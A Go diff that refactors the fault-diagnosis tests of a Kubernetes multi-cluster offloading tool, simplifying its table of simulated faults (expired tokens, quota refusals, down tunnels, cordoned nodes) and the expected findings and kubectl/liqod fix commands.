@@ -42,6 +42,11 @@ func broken(s *Snapshot, name, node string, change func(*corev1.PodStatus)) *cor
 	return &s.Pods[len(s.Pods)-1]
 }
 
+// one is a world in which a pod of Deployment web in the provider has a status.
+func one(status func(*corev1.PodStatus)) func(*Snapshot) {
+	return func(s *Snapshot) { broken(s, "web-3", "milan", status) }
+}
+
 // offered is an offer between rome and milan.
 func offered(provider, consumer string, status sharingv1alpha1.ResourceOfferStatus) sharingv1alpha1.ResourceOffer {
 	return sharingv1alpha1.ResourceOffer{ObjectMeta: metav1.ObjectMeta{Namespace: "liqo-tenant-milan", Name: "spring"},
@@ -95,12 +100,13 @@ func warningAbout(p *corev1.Pod, reason, message string) corev1.Event {
 }
 
 // offloadedAs lets a pod have the affinity and toleration of an offloading.
-func offloadedAs(t *testing.T, p *corev1.Pod, strategy offloadingv1beta1.PodOffloadingStrategy, selector corev1.NodeSelector) {
-	t.Helper()
+func offloadedAs(p *corev1.Pod, strategy offloadingv1beta1.PodOffloadingStrategy, selector corev1.NodeSelector) {
 	bare := &corev1.Pod{Spec: p.Spec}
 	bare.Spec.NodeName = ""
 	out, err := rules.Offload(bare, strategy, selector)
-	require.NoError(t, err)
+	if err != nil {
+		panic(err) // of the arguments of a test
+	}
 	p.Spec = out.Spec
 }
 
@@ -124,7 +130,6 @@ func refuses(s *Snapshot, objects ...offloadingv1beta1.RefusedObject) {
 // TestRefusedObjects: each object that a provider refuses is a warning, also of one namespace alone, and to a
 // person who may not read Nodes.
 func TestRefusedObjects(t *testing.T) {
-	t.Parallel()
 	var objects []offloadingv1beta1.RefusedObject
 	for i := range 20 {
 		objects = append(objects, offloadingv1beta1.RefusedObject{Kind: "configmap", Namespace: "lab", Name: fmt.Sprintf("c-%02d", i), Cause: "no"})
@@ -195,174 +200,139 @@ func TestFaults(t *testing.T) {
 	page, err := os.ReadFile("../../../docs/checks.md")
 	require.NoError(t, err)
 	for name, tc := range map[string]struct {
-		change func(*testing.T, *Snapshot)
+		change func(*Snapshot)
 		level  Level
 		// line is the finding, and fix a command or advice, each in part; therefore is the list of
 		// consequences that status prints.
 		line, fix, therefore string
 	}{
-		"wrong token": {func(_ *testing.T, s *Snapshot) {
-			tells(s, corev1beta1.ConditionAuthenticated, metav1.ConditionFalse, "TokenRefused", "the token is used up")
-		}, Problem, "milan, identity: the token is used up", "In cluster milan:\n           liqod token create --for rome\n           In this cluster:\n           liqod peer --token TOKEN\n", ""},
-		"wrong token of a peer that is new": {func(_ *testing.T, s *Snapshot) {
+		"wrong token of a peer that is new": {func(s *Snapshot) {
 			tells(s, corev1beta1.ConditionAuthenticated, metav1.ConditionFalse, "TokenRefused", "the token is used up")
 			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonNotAsked, "no capacity has been requested yet")
-		}, Problem, "milan, identity: the token is used up", "liqod token create --for rome", "Therefore: milan, capacity used there\n"},
-		"certificate of the identity expired": {func(_ *testing.T, s *Snapshot) {
-			apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonInvalidCredentials, "the client certificate has expired")
-		}, Problem, "milan, API server: the client certificate has expired", "liqod token create --for rome", ""},
-		"certificate of the webhook expired": {func(_ *testing.T, s *Snapshot) {
-			s.Rules = nil
-			s.Taken = now.Add(48 * time.Hour)
-			for i := range s.Leases {
-				s.Leases[i].Spec.RenewTime = ptr.To(metav1.NewMicroTime(s.Taken))
-			}
-		}, Problem, "admission webhook pod.mutate.liqo.io: the caBundle has expired", "logs deployment/liqod-controller", ""},
-		"rights withdrawn by the peer": {func(_ *testing.T, s *Snapshot) {
-			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionUnknown, corev1beta1.ReasonRightsRevoked, "milan gives this cluster no rights")
-		}, Problem, "milan, capacity used there: milan gives this cluster no rights", "liqod unpeer milan", ""},
-		"rights withdrawn by the peer, with all that follows": {func(_ *testing.T, s *Snapshot) {
+		}, Problem, "milan, identity: the token is used up", "In cluster milan:\n           liqod token create --for rome\n           In this cluster:\n           liqod peer --token TOKEN\n",
+			"Therefore: milan, capacity used there\n"},
+		"certificate of the identity expired": {server(metav1.ConditionFalse, corev1beta1.ReasonInvalidCredentials, "the client certificate has expired"),
+			Problem, "milan, API server: the client certificate has expired", "liqod token create --for rome", ""},
+		"rights withdrawn by the peer, with all that follows": {func(s *Snapshot) {
 			apiServer(s, metav1.ConditionUnknown, corev1beta1.ReasonIdentityUnknown, "the API server does not tell which cluster it is")
 			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionUnknown, corev1beta1.ReasonRightsRevoked, "milan has revoked the rights of this cluster")
 			s.Nodes[0].Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionFalse, Reason: corev1beta1.ReasonRightsRevoked, Message: "no rights"}}
 			broken(s, "web-3", "milan", unreadyFor(reasons.RemotePodTerminating, "the provider is removing the pod"))
 		}, Problem, "milan, capacity used there: milan has revoked the rights of this cluster (RightsRevoked; Unknown for ", "liqod unpeer milan",
 			"Therefore: milan, virtual node milan; milan, API server; milan, pods of namespace shop"},
-		"rights withdrawn by the peer, and pods that have ended there": {func(_ *testing.T, s *Snapshot) {
+		"rights withdrawn by the peer, and pods that have ended there": {func(s *Snapshot) {
 			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionUnknown, corev1beta1.ReasonRightsRevoked, "milan has revoked the rights of this cluster")
 			broken(s, "web-3", "milan", unreadyFor("PodCompleted", "")).Status.ContainerStatuses = []corev1.ContainerStatus{exited("app", "Error", 1)}
 		}, Problem, "milan, capacity used there: milan has revoked the rights of this cluster", "liqod unpeer milan", "Therefore: milan, pods of namespace shop"},
-		"the provider's controller does not run": {func(_ *testing.T, s *Snapshot) {
+		"the provider's controller does not run": {func(s *Snapshot) {
 			s.Nodes[0].Status.Conditions = append(s.Nodes[0].Status.Conditions, corev1.NodeCondition{Type: offloadingv1beta1.ReasonControllerSilent,
 				Status: corev1.ConditionTrue, Reason: offloadingv1beta1.ReasonControllerSilent, Message: "no controller of the provider has renewed its Lease"})
 			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonControllerSilent, "no controller of the provider has renewed its Lease"))
 		}, Problem, "milan, virtual node milan: it is Ready, but no controller of the provider has renewed its Lease", "liqod check",
 			"Therefore: milan, pods of namespace shop"},
-		"no rights to read": {func(_ *testing.T, s *Snapshot) {
+		"no rights to read": {func(s *Snapshot) {
 			s.ForeignClusters, s.VirtualNodes, s.Nodes, s.Offloadings, s.Pods = nil, nil, nil, nil, nil
 			s.Unread[ReadForeignClusters], s.Unread[ReadVirtualNodes], s.Unread[ReadOffloadings] = denied("foreignclusters"), denied("virtualnodes"), denied("namespaceoffloadings")
 		}, Unknown, `rights: user "jane" may not read ForeignClusters, VirtualNodes, NamespaceOffloadings`,
 			"kubectl create clusterrole liqod-status --verb=get,list --resource=deployments.apps,", ""},
-		"no room in the quota": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)"))
-		}, Problem, "milan, pods of namespace shop: 1 of 3 pods waits (QuotaExceeded); the first, web-3: the pod of cluster rome waits: its quota has no room left", "liqod status milan", ""},
-		"larger than the quota": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaTooSmall, "the pod alone is larger than the quota of cluster rome"))
-		}, Problem, "1 of 3 pods is refused (QuotaTooSmall); the first, web-3: the pod alone is larger", "kubectl -n shop edit deployment web", ""},
-		"larger than the quota, told by the webhook": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaTooSmall, "cluster milan refuses the ShadowPod: the pod alone is larger than the quota of cluster rome (cpu: 5 requested, 1 allowed in all)"))
-		}, Problem, "1 of 3 pods is refused (QuotaTooSmall); the first, web-3: cluster milan refuses the ShadowPod: the pod alone is larger",
+		"no room in the quota": {one(refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)")),
+			Problem, "milan, pods of namespace shop: 1 of 3 pods waits (QuotaExceeded); the first, web-3: the pod of cluster rome waits: its quota has no room left", "liqod status milan", ""},
+		"larger than the quota": {one(refusing(offloadingv1beta1.ReasonQuotaTooSmall, "the pod alone is larger than the quota of cluster rome")),
+			Problem, "1 of 3 pods is refused (QuotaTooSmall); the first, web-3: the pod alone is larger", "kubectl -n shop edit deployment web", ""},
+		"larger than the quota, told by the webhook": {one(refusing(offloadingv1beta1.ReasonQuotaTooSmall, "cluster milan refuses the ShadowPod: the pod alone is larger than the quota of cluster rome (cpu: 5 requested, 1 allowed in all)")),
+			Problem, "1 of 3 pods is refused (QuotaTooSmall); the first, web-3: cluster milan refuses the ShadowPod: the pod alone is larger",
 			"liqod status milan\n           In cluster milan:\n           kubectl -n liqo-tenant-rome edit quotas.offloading.liqo.io\n", ""},
-		"no requests, told by the webhook": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaUndeclared, "cluster milan refuses the ShadowPod: the quota of cluster rome requires declared CPU and memory (Soft): container app has no resources.requests.cpu"))
-		}, Problem, "container app has no resources.requests.cpu", "kubectl -n shop edit deployment web\n           Set the requests and limits", ""},
-		"no room in the quota of an offer": {func(_ *testing.T, s *Snapshot) {
+		"no requests, told by the webhook": {one(refusing(offloadingv1beta1.ReasonQuotaUndeclared, "cluster milan refuses the ShadowPod: the quota of cluster rome requires declared CPU and memory (Soft): container app has no resources.requests.cpu")),
+			Problem, "container app has no resources.requests.cpu", "kubectl -n shop edit deployment web\n           Set the requests and limits", ""},
+		"no room in the quota of an offer": {func(s *Snapshot) {
 			s.VirtualNodes[0].Labels = map[string]string{offloadingv1beta1.ManagedByLabel: sharingv1alpha1.ManagedByOffer}
 			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaExceeded, "the pod of cluster rome waits: its quota has no room left (cpu: 4 of 4 are used)"))
 		}, Problem, "its quota has no room left", `kubectl apply -f - <<<'{"apiVersion":"offloading.liqo.io/v1beta1","kind":"Quota","metadata":{"name":"more","namespace":"liqo-tenant-rome"},"spec":{"resources":{"cpu":"CPU",`, ""},
-		"offer to approve": {func(_ *testing.T, s *Snapshot) {
+		"offer to approve": {func(s *Snapshot) {
 			s.Offers = []sharingv1alpha1.ResourceOffer{offered("rome", "milan", sharingv1alpha1.ResourceOfferStatus{})}
 			tells(s, corev1beta1.ConditionIncomingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonApprovalRequired, "the offer spring waits for approval")
 		}, Problem, "milan, capacity used here: the offer spring waits for approval", "liqod offer approve spring -n liqo-tenant-milan\n", ""},
-		"offer to accept": {func(_ *testing.T, s *Snapshot) {
+		"offer to accept": {func(s *Snapshot) {
 			s.Offers = []sharingv1alpha1.ResourceOffer{offered("milan", "rome", sharingv1alpha1.ResourceOfferStatus{Reason: sharingv1alpha1.ReasonAcceptanceRequired})}
 			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, "OfferNotUsed", "spring: a person must accept it")
 		}, Problem, "milan, capacity used there: spring: a person must accept it", "liqod offer approve spring -n liqo-tenant-milan\n", ""},
-		"offer that the peer has to approve": {func(_ *testing.T, s *Snapshot) {
-			tells(s, corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonApprovalRequired, "its people have to approve the offer")
-		}, Problem, "milan, capacity used there: its people have to approve the offer",
+		"offer that the peer has to approve": {told(corev1beta1.ConditionOutgoingPeering, metav1.ConditionFalse, sharingv1alpha1.ReasonApprovalRequired, "its people have to approve the offer"),
+			Problem, "milan, capacity used there: its people have to approve the offer",
 			"In cluster milan:\n           liqod offer list\n           shows what is asked and offered. To approve an offer:\n           liqod offer approve NAME -n liqo-tenant-rome\n", ""},
-		"vkubelet hangs": {func(_ *testing.T, s *Snapshot) {
+		"vkubelet hangs": {func(s *Snapshot) {
 			s.Nodes[0].Status.Conditions = []corev1.NodeCondition{{Type: corev1.NodeReady, Status: corev1.ConditionUnknown, Reason: "NodeStatusUnknown", Message: "Kubelet stopped posting node status."}}
 		}, Unknown, "milan, virtual node milan: the Node is not Ready: Kubelet stopped posting node status. (NodeStatusUnknown)",
 			"kubectl -n liqo-tenant-milan delete pods -l liqo.io/virtual-node=milan\n", ""},
-		"a Quota here that somebody has cordoned": {func(_ *testing.T, s *Snapshot) {
+		"a Quota here that somebody has cordoned": {func(s *Snapshot) {
 			s.Quotas = []offloadingv1beta1.Quota{{ObjectMeta: metav1.ObjectMeta{Namespace: "liqo-tenant-milan", Name: "milan"}, Spec: offloadingv1beta1.QuotaSpec{Cordoned: new(true)}}}
 		}, Warning, "milan, Quota milan: spec.cordoned is true: it gives nothing to new pods of cluster milan, which wait (QuotaCordoned) unless another Quota has room",
 			`kubectl -n liqo-tenant-milan patch quotas.offloading.liqo.io milan --type=merge -p '{"spec":{"cordoned":false}}'`, ""},
-		"offer withdrawn": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonQuotaCordoned, "the quota of cluster rome is cordoned: no new pod starts"))
-		}, Problem, "1 of 3 pods waits (QuotaCordoned); the first, web-3: the quota of cluster rome is cordoned", "kubectl cordon milan", ""},
-		"privileged there": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", refusing(offloadingv1beta1.ReasonPodRefused, `pods "web-3" is forbidden: violates PodSecurity "baseline:latest": privileged`))
-		}, Problem, `is refused (PodRefused); the first, web-3: pods "web-3" is forbidden: violates PodSecurity`, "controller.podSecurityLevel", ""},
-		"no node fits there": {func(_ *testing.T, s *Snapshot) {
+		"offer withdrawn": {one(refusing(offloadingv1beta1.ReasonQuotaCordoned, "the quota of cluster rome is cordoned: no new pod starts")),
+			Problem, "1 of 3 pods waits (QuotaCordoned); the first, web-3: the quota of cluster rome is cordoned", "kubectl cordon milan", ""},
+		"privileged there": {one(refusing(offloadingv1beta1.ReasonPodRefused, `pods "web-3" is forbidden: violates PodSecurity "baseline:latest": privileged`)),
+			Problem, `is refused (PodRefused); the first, web-3: pods "web-3" is forbidden: violates PodSecurity`, "controller.podSecurityLevel", ""},
+		"no node fits there": {func(s *Snapshot) {
 			broken(s, "web-3", "milan", func(st *corev1.PodStatus) {
 				unreadyFor(corev1.PodReasonUnschedulable, "in the provider: 0/3 nodes are available: 3 Insufficient cpu.")(st)
 				st.Phase = corev1.PodPending
 			})
 		}, Problem, "1 of 3 pods is unschedulable in cluster milan (Unschedulable); the first, web-3: in the provider: 0/3 nodes are available", "kubectl -n shop edit deployment web", ""},
-		"ConfigMap of a variable missing there": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", stuck("CreateContainerConfigError", `configmap "settings" not found`))
-		}, Problem, `is not ready (CreateContainerConfigError); the first, web-3: container app: configmap "settings" not found`, "kubectl -n shop get configmap settings", ""},
-		"ConfigMap of a volume missing there": {func(_ *testing.T, s *Snapshot) {
+		"ConfigMap of a variable missing there": {one(stuck("CreateContainerConfigError", `configmap "settings" not found`)),
+			Problem, `is not ready (CreateContainerConfigError); the first, web-3: container app: configmap "settings" not found`, "kubectl -n shop get configmap settings", ""},
+		"ConfigMap of a volume missing there": {func(s *Snapshot) {
 			p := broken(s, "web-3", "milan", stuck("ContainerCreating", ""))
 			s.Events = []corev1.Event{warningAbout(p, "FailedMount", `MountVolume.SetUp failed for volume "v" : configmap "shop-rome/settings" not found`)}
 		}, Problem, `is not ready (FailedMount); the first, web-3: MountVolume.SetUp failed`, "kubectl -n shop get configmap settings", ""},
-		"Secret missing there": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", stuck("CreateContainerConfigError", `secret "key" not found`))
-		}, Problem, `container app: secret "key" not found`, "kubectl -n shop get secret key", ""},
-		"image missing there": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", stuck("ImagePullBackOff", `Back-off pulling image "web:nope"`))
-		}, Problem, `is not ready (ImagePullBackOff); the first, web-3: container app: Back-off pulling image "web:nope"`, "kubectl -n shop edit deployment web", ""},
-		"container ends": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", crashed(2, "Error"))
-		}, Problem, "(CrashLoopBackOff); the first, web-3: container app: it ended with exit code 2 (Error); it was started 4 times", "kubectl -n shop logs web-3 -c app --previous\n", ""},
-		"no image for another start": {func(_ *testing.T, s *Snapshot) {
+		"Secret missing there": {one(stuck("CreateContainerConfigError", `secret "key" not found`)), Problem, `container app: secret "key" not found`, "kubectl -n shop get secret key", ""},
+		"image missing there": {one(stuck("ImagePullBackOff", `Back-off pulling image "web:nope"`)),
+			Problem, `is not ready (ImagePullBackOff); the first, web-3: container app: Back-off pulling image "web:nope"`, "kubectl -n shop edit deployment web", ""},
+		"no image for another start": {func(s *Snapshot) {
 			broken(s, "web-3", "milan", crashed(0, "Completed")).Status.ContainerStatuses[0].State.Waiting = &corev1.ContainerStateWaiting{
 				Reason: "ImagePullBackOff", Message: "Back-off pulling image \"nginx:typo\""}
 		}, Problem, "is not ready (ImagePullBackOff); the first, web-3: container app: Back-off pulling image", "kubectl -n shop edit deployment web", ""},
-		"out of memory": {func(_ *testing.T, s *Snapshot) {
-			broken(s, "web-3", "milan", crashed(137, "OOMKilled"))
-		}, Problem, "it ended with exit code 137 (OOMKilled)", "logs web-3", ""},
-		"readiness probe fails": {func(_ *testing.T, s *Snapshot) {
+		"readiness probe fails": {func(s *Snapshot) {
 			p := broken(s, "web-3", "milan", unreadyFor("ContainersNotReady", "containers with unready status: [app]"))
 			s.Events = []corev1.Event{warningAbout(p, "Unhealthy", "Readiness probe failed: HTTP probe failed with statuscode: 500")}
 		}, Problem, "is not ready (Unhealthy); the first, web-3: Readiness probe failed", "kubectl -n shop describe pod web-3", ""},
-		"never ready": {func(_ *testing.T, s *Snapshot) {
-			p := broken(s, "web-3", "milan", unreadyFor("ContainersNotReady", "containers with unready status: [app]"))
-			p.Status.Conditions[0].LastTransitionTime = ago(6 * time.Minute)
-			p.CreationTimestamp = ago(7 * time.Minute)
-		}, Problem, "is not ready (ContainersNotReady); the first, web-3: containers with unready status", "kubectl -n shop describe pod web-3", ""},
-		"on a virtual node of a namespace that is not offloaded": {func(_ *testing.T, s *Snapshot) {
+		"on a virtual node of a namespace that is not offloaded": {func(s *Snapshot) {
 			p := broken(s, "job", "milan", refusing(offloadingv1beta1.ReasonOffloadingBackOff, "namespace lab is not offloaded to cluster milan"))
 			p.Namespace, p.Status.Conditions[0].LastTransitionTime, p.CreationTimestamp = "lab", ago(6*time.Minute), ago(7*time.Minute)
 		}, Problem, "milan, pods of namespace lab: pod job waits (OffloadingBackOff): namespace lab is not offloaded", "liqod offload namespace lab", ""},
-		"a pod that selects virtual nodes in a namespace that is not offloaded": {func(_ *testing.T, s *Snapshot) {
+		"a pod that selects virtual nodes in a namespace that is not offloaded": {func(s *Snapshot) {
 			p := broken(s, "job", "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
 			p.Namespace, p.Spec.NodeSelector, p.OwnerReferences = "lab", map[string]string{offloadingv1beta1.TypeLabel: offloadingv1beta1.TypeVirtualNode}, nil
 		}, Problem, "pods of namespace lab: pod job waits for a node (Unschedulable): it asks for virtual nodes, and its namespace is not offloaded: 0/4 nodes are available",
 			"Fix: liqod offload namespace lab --pod-offloading-strategy LocalAndRemote\n           kubectl -n lab delete pod job\n           and create it again from its manifest: no controller does it. Or remove what selects virtual nodes from it.", ""},
-		"a provisioner's pod on a virtual node": {func(_ *testing.T, s *Snapshot) {
+		"a provisioner's pod on a virtual node": {func(s *Snapshot) {
 			p := broken(s, "helper-pod", "milan", refusing(offloadingv1beta1.ReasonOffloadingBackOff, "namespace local-path-storage is not offloaded to cluster milan"))
 			p.Namespace, p.Status.Conditions[0].LastTransitionTime, p.CreationTimestamp = "local-path-storage", ago(6*time.Minute), ago(7*time.Minute)
 			p.Spec.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/opt"}}}}
 		}, Problem, "milan, pods of namespace local-path-storage: pod helper-pod waits (OffloadingBackOff)",
 			"Fix: kubectl -n local-path-storage get pod helper-pod -o yaml\n           shows what has placed it on virtual node milan: keep the pod off virtual nodes.", ""},
-		"objects that the provider refuses": {func(_ *testing.T, s *Snapshot) {
+		"objects that the provider refuses": {func(s *Snapshot) {
 			refuses(s, offloadingv1beta1.RefusedObject{Kind: "service", Namespace: "shop", Name: "ext", Cause: "cluster milan refuses it: its setting sharing.serviceFields lets peers choose it"})
 		}, Warning, "\n  ‼ milan, service ext of namespace shop: cluster milan refuses it: its setting sharing.serviceFields lets peers choose it\n      Fix: kubectl -n shop edit service ext\n",
 			"kubectl -n shop annotate service ext liqo.io/skip-reflection=true\n", ""},
-		"selector with a typing error": {func(t *testing.T, s *Snapshot) {
+		"selector with a typing error": {func(s *Snapshot) {
 			nobodyChosen(s)
 			s.Nodes[0].Labels["region"] = "north"
 			s.Offloadings[0].Spec.ClusterSelector, s.Offloadings[0].Spec.PodOffloadingStrategy = region("nowhere"), offloadingv1beta1.PodsRemote
 			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
-			offloadedAs(t, p, offloadingv1beta1.PodsRemote, region("nowhere"))
+			offloadedAs(p, offloadingv1beta1.PodsRemote, region("nowhere"))
 			s.Templates = map[types.UID]corev1.PodTemplateSpec{"web-6c9f": {}}
 		}, Problem, "namespace shop: spec.clusterSelector (region in (nowhere)) matches none of the virtual nodes: milan (region=north)",
 			"liqod offload namespace shop --selector region=north --pod-offloading-strategy Remote", "Therefore: pods of namespace shop"},
-		"no virtual node at all": {func(_ *testing.T, s *Snapshot) {
+		"no virtual node at all": {func(s *Snapshot) {
 			nobodyChosen(s)
 			s.VirtualNodes, s.Nodes, s.ForeignClusters, s.Pods, s.Maps = nil, nil, nil, nil, nil
 		}, Problem, "namespace shop: there is no virtual node: this cluster uses no provider", "liqod peer --token TOKEN", ""},
-		"no virtual node, several namespaces": {func(_ *testing.T, s *Snapshot) {
+		"no virtual node, several namespaces": {func(s *Snapshot) {
 			nowhere(s)
 			s.Offloadings = append(s.Offloadings, *s.Offloadings[0].DeepCopy())
 			s.Offloadings[1].Namespace = "market"
 			s.ForeignClusters = nil
 		}, Problem, "providers: this cluster uses no provider, and 2 namespaces are offloaded", "liqod peer --token TOKEN", "namespace shop; namespace market"},
-		"endpoint that does not answer": {func(_ *testing.T, s *Snapshot) {
+		"endpoint that does not answer": {func(s *Snapshot) {
 			nowhere(s)
 			s.ForeignClusters[0].Status.Role = corev1beta1.RoleUnknown
 			s.ForeignClusters[0].Status.Conditions = []metav1.Condition{
@@ -372,65 +342,64 @@ func TestFaults(t *testing.T) {
 			}
 		}, Problem, "milan, identity: the authentication endpoint of cluster milan at https://127.0.0.1:39999 does not answer", "liqod token create --url URL --for rome\n",
 			"milan, capacity used there; namespace shop"},
-		"affinity of an earlier offloading": {func(t *testing.T, s *Snapshot) {
+		"affinity of an earlier offloading": {func(s *Snapshot) {
 			for _, name := range []string{"web-3", "web-4"} {
 				p := broken(s, name, "", unplaced("0/4 nodes are available: 4 node(s) didn't match Pod's node affinity/selector."))
-				offloadedAs(t, p, offloadingv1beta1.PodsRemote, region("nowhere"))
+				offloadedAs(p, offloadingv1beta1.PodsRemote, region("nowhere"))
 			}
 			s.Templates = map[types.UID]corev1.PodTemplateSpec{"web-6c9f": {}}
 		}, Problem, "pods of namespace shop: 2 pods (web-3, …) wait for a node, with the affinity of an earlier NamespaceOffloading", "kubectl -n shop delete pod web-3 web-4", ""},
-		"own node selector, and the runtime class": {func(t *testing.T, s *Snapshot) {
+		"own node selector, and the runtime class": {func(s *Snapshot) {
 			p := broken(s, "web-3", "", unplaced("0/2 nodes are available: 2 node(s) didn't match Pod's node affinity/selector."))
 			p.OwnerReferences, p.Spec.RuntimeClassName, p.Spec.NodeSelector = nil, ptr.To(offloadingv1beta1.RuntimeClassName), map[string]string{"disktype": "ssd"}
-			offloadedAs(t, p, offloadingv1beta1.PodsLocalAndRemote, corev1.NodeSelector{})
+			offloadedAs(p, offloadingv1beta1.PodsLocalAndRemote, corev1.NodeSelector{})
 		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/2 nodes are available", "kubectl -n shop replace --force -f web-3.yaml", ""},
-		"no room at home": {func(_ *testing.T, s *Snapshot) {
+		"no room at home": {func(s *Snapshot) {
 			p := broken(s, "web-3", "", unplaced("0/4 nodes are available: 4 Insufficient cpu."))
 			p.Spec.Tolerations = []corev1.Toleration{{Key: offloadingv1beta1.VirtualNodeTaintKey, Operator: corev1.TolerationOpExists}}
 		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available: 4 Insufficient cpu.", "kubectl -n shop edit deployment web", ""},
-		"virtual node cordoned": {func(_ *testing.T, s *Snapshot) {
+		"virtual node cordoned": {func(s *Snapshot) {
 			s.Nodes[0].Spec.Unschedulable = true
 			broken(s, "web-3", "", unplaced("0/4 nodes are available: 3 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable."))
 		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available", "Fix: kubectl uncordon milan\n", ""},
-		"virtual node being removed": {func(_ *testing.T, s *Snapshot) {
+		"virtual node being removed": {func(s *Snapshot) {
 			s.Nodes[0].Spec.Unschedulable = true
 			s.VirtualNodes[0].DeletionTimestamp = ptr.To(ago(time.Minute))
 			broken(s, "web-3", "", unplaced("0/4 nodes are available: 3 node(s) didn't match Pod's node affinity/selector, 1 node(s) were unschedulable."))
 		}, Problem, "pods of namespace shop: pod web-3 waits for a node (Unschedulable): 0/4 nodes are available", "virtual node milan is being removed", ""},
-		"no class for a claim": {func(_ *testing.T, s *Snapshot) {
+		"no class for a claim": {func(s *Snapshot) {
 			p := broken(s, "db-0", "", unplaced(`running PreBind plugin "VolumeBinding": binding volumes: provisioning failed for PVC "data-db-0"`))
 			p.Status.Conditions[0].Reason = corev1.PodReasonSchedulerError
 			p.Spec.Volumes = []corev1.Volume{{Name: "data", VolumeSource: corev1.VolumeSource{PersistentVolumeClaim: &corev1.PersistentVolumeClaimVolumeSource{ClaimName: "data-db-0"}}}}
 		}, Problem, "pods of namespace shop: pod db-0 waits for a node (SchedulerError)", "kubectl -n shop describe pvc data-db-0\n", ""},
-		"controller down": {func(_ *testing.T, s *Snapshot) {
+		"controller down": {func(s *Snapshot) {
 			s.Roles[0].Spec.Replicas, s.Roles[0].Status.ReadyReplicas = ptr.To[int32](0), 0
 			s.Leases[0].Spec.RenewTime = ptr.To(metav1.NewMicroTime(now.Add(-time.Minute)))
 		}, Problem, "role controller: it is scaled to zero", "kubectl -n liqod scale deployment/liqod-controller --replicas=1",
 			"Therefore: milan, API server; milan, namespaces asked for; namespace shop"},
-		"webhook down": {func(_ *testing.T, s *Snapshot) {
+		"webhook down": {func(s *Snapshot) {
 			s.Roles[1].Status = appsv1.DeploymentStatus{Conditions: []appsv1.DeploymentCondition{{Type: appsv1.DeploymentProgressing, Status: corev1.ConditionFalse, Message: "exceeded its progress deadline"}}}
 		}, Problem, "role webhook: 0 of 2 replicas are ready: exceeded its progress deadline", "logs deployment/liqod-webhook", ""},
-		"API server of the peer down": {func(_ *testing.T, s *Snapshot) {
+		"API server of the peer down": {func(s *Snapshot) {
 			apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonAPIServerNotReady, "https://milan:6443: timeout")
 			s.Nodes[0].Status.Conditions[0] = corev1.NodeCondition{Type: corev1.NodeReady, Status: corev1.ConditionFalse, Reason: "ProviderAway", Message: "milan is away"}
 			for i := range s.Pods[:2] {
 				unreadyFor(reasons.NodeNotReady, "the virtual node is not ready")(&s.Pods[i].Status)
 			}
 		}, Problem, "milan, API server: https://milan:6443: timeout", "curl --insecure --globoff --max-time 10 https://milan:6443/readyz\n", "Therefore: milan, virtual node milan; milan, pods of namespace shop"},
-		"heartbeats missed": {func(_ *testing.T, s *Snapshot) {
-			apiServer(s, metav1.ConditionFalse, corev1beta1.ReasonHeartbeatMissed, "milan has not renewed its Lease for 40s")
-		}, Problem, "milan, API server: milan has not renewed its Lease", "In cluster milan:\n           liqod check\n", ""},
-		"tunnel down, and with it what the peer reports": {func(_ *testing.T, s *Snapshot) {
+		"heartbeats missed": {server(metav1.ConditionFalse, corev1beta1.ReasonHeartbeatMissed, "milan has not renewed its Lease for 40s"),
+			Problem, "milan, API server: milan has not renewed its Lease", "In cluster milan:\n           liqod check\n", ""},
+		"tunnel down, and with it what the peer reports": {func(s *Snapshot) {
 			apiServer(s, metav1.ConditionUnknown, networkingv1beta1.ReasonTunnelDown, "no probe comes through the tunnel")
 			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, networkingv1beta1.ReasonTunnelDown, "no probe is answered")
 		}, Problem, "milan, network: no probe is answered", "kubectl -n liqo-tenant-milan get configurations.networking.liqo.io -o custom-columns=", "Therefore: milan, API server"},
-		"tunnel down": {func(_ *testing.T, s *Snapshot) {
+		"tunnel down": {func(s *Snapshot) {
 			tells(s, corev1beta1.ConditionNetwork, metav1.ConditionFalse, networkingv1beta1.ReasonTunnelDown, "no probe is answered")
 			for i := range s.Pods[:2] {
 				unreadyFor(reasons.NetworkUnavailable, "the network to the provider does not work")(&s.Pods[i].Status)
 			}
